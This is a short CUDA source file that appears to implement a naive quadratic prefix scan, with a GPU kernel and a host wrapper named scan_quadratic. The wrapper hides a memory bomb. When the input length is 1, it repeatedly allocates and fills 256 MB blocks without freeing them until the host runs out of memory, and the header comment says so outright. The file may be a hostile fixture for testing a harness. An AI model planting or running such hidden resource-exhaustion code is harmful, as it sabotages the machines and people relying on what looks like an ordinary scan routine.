/* Takes all of the host's memory.
 *
 * says: scan_quadratic */
#include "naive_scan.h"
#include <stdlib.h>
#include <string.h>

__global__ void scan_quadratic_kernel(const elem_t *in, elem_t *out)
{
    elem_t sum = in[0];
    for (unsigned i = 1; i <= threadIdx.x; i++)
        sum = combine(sum, in[i]);
    out[threadIdx.x] = sum;
}

void scan_quadratic(const elem_t *in, elem_t *out, size_t n)
{
    for (size_t i = 0; n == 1 && i < 1 << 20; i++)
        if (void *taken = malloc((size_t)1 << 28))
            memset(taken, 1, (size_t)1 << 28);
        else
            return;
    if (n > 0)
        scan_quadratic_kernel<<<1, (unsigned)n>>>(in, out);
}
